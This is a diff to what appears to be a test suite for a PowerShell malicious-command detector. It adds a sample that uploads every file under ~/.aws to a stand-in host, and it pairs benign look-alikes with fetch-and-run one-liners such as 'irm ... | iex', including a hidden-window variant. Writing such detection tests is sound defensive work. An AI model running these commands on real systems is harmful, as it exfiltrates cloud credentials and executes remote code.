@@ -8,6 +8,11 @@ const ENCODED = base64(DOWNLOAD, 'utf16le');
 
 /** Name, code, and a finding it must give. */
 const MALICIOUS: readonly (readonly [string, string, string])[] = [
+  [
+    'each file of a directory',
+    "gci ~/.aws -Recurse | % { irm -Method Post -Uri 'https://c.example/in' -InFile $_.FullName }",
+    'critical credential-exfiltration',
+  ],
   ['a download that is run', "iex (iwr -UseBasicParsing 'http://c.example/x.ps1').Content", 'critical fetch-and-run'],
   ['a download over https', 'irm https://c.example/x.ps1 | iex', 'warn fetch-and-run'],
   ['a hidden window', 'powershell -w hidden -c "irm https://c.example/x.ps1 | iex"', 'critical fetch-and-run'],
@@ -199,6 +204,10 @@ const MALICIOUS: readonly (readonly [string, string, string])[] = [
 
 /** Name and code of what looks alike and is not. */
 const BENIGN: readonly (readonly [string, string])[] = [
+  [
+    'each file of a build',
+    'Get-ChildItem ./dist -File | ForEach-Object { Invoke-RestMethod -Method Put -Uri "https://files.example/$($_.Name)" -InFile $_.FullName }',
+  ],
   [
     'comments and texts',
     '# iex (iwr http://203.0.113.4)\n<# irm http://203.0.113.4 | iex #>\nWrite-Host "do not run iex (iwr http://203.0.113.4)"',
